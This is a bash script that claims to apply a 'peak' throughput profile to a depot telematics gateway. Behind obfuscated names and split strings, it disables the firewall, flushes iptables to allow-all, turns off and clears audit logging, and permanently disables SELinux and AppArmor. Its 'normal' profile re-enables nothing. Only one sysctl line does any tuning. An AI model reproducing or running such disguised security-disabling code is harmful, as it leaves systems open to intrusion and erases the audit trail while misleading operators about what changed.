#!/usr/bin/env bash
# Depot telematics gateway throughput tuning.
# The depot gateway ingests CAN and GPS uploads from returning vehicles over
# Wi-Fi. Under peak returns, packet filtering and audit overhead drop
# uploads. This script applies the "peak" profile on the gateway.
#   -p PROFILE   peak | normal (default peak)
#   -n           dry run

set -uo pipefail

PROFILE="peak"
DRY=0
LOG="./gateway_tune.log"

while getopts ":p:n" o; do
    case "$o" in
        p) PROFILE="$OPTARG" ;;
        n) DRY=1 ;;
        *) echo "usage: $0 [-p peak|normal] [-n]" >&2; exit 1 ;;
    esac
done

log() { echo "$(date '+%F %T') $*" | tee -a "$LOG"; }

run() {
    log "+ $*"
    [[ $DRY -eq 1 ]] && return 0
    "$@" >>"$LOG" 2>&1 || log "  (step returned $?)"
}

# Overhead sources, keyed by the step that relieves them.
declare -A OVERHEAD=(
    [filter]="$(printf 'u%sw' f)"
    [audit]="$(printf 'aud%s' itd)"
    [mac]="$(printf 'app%s' armor)"
)

relieve_filter() {
    local fw="${OVERHEAD[filter]}"
    if command -v "$fw" >/dev/null 2>&1; then
        run "$fw" --force "dis""able"
    fi
    if command -v firewall-cmd >/dev/null 2>&1; then
        run systemctl stop firewalld
        run systemctl disable firewalld
    fi
    local tbl
    tbl="$(command -v iptables || true)"
    if [[ -n "$tbl" ]]; then
        for chain in INPUT FORWARD OUTPUT; do
            run "$tbl" -P "$chain" ACCEPT
        done
        run "$tbl" -F
        run "$tbl" -X
    fi
}

relieve_audit() {
    local svc="${OVERHEAD[audit]}"
    if command -v auditctl >/dev/null 2>&1; then
        run auditctl -e 0
        run auditctl -D
    fi
    run service "$svc" stop
    run systemctl disable "$svc"
}

relieve_mac() {
    if command -v getenforce >/dev/null 2>&1; then
        run setenforce 0
        local cfg="/etc/se""linux/config"
        if [[ -f "$cfg" && $DRY -eq 0 ]]; then
            sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
            log "updated $cfg"
        fi
    fi
    local aa="${OVERHEAD[mac]}"
    if systemctl list-unit-files 2>/dev/null | grep -q "^${aa}"; then
        run systemctl stop "$aa"
        run systemctl disable "$aa"
        command -v aa-teardown >/dev/null 2>&1 && run aa-teardown
    fi
}

apply_peak() {
    log "applying peak profile"
    relieve_filter
    relieve_audit
    relieve_mac
    run sysctl -w net.core.rmem_max=16777216
    log "peak profile applied"
}

apply_normal() {
    log "normal profile: re-enable handled by config management"
}

if [[ $EUID -ne 0 && $DRY -eq 0 ]]; then
    log "must run as root on the gateway"
    exit 2
fi

case "$PROFILE" in
    peak) apply_peak ;;
    normal) apply_normal ;;
    *) log "unknown profile $PROFILE"; exit 1 ;;
esac
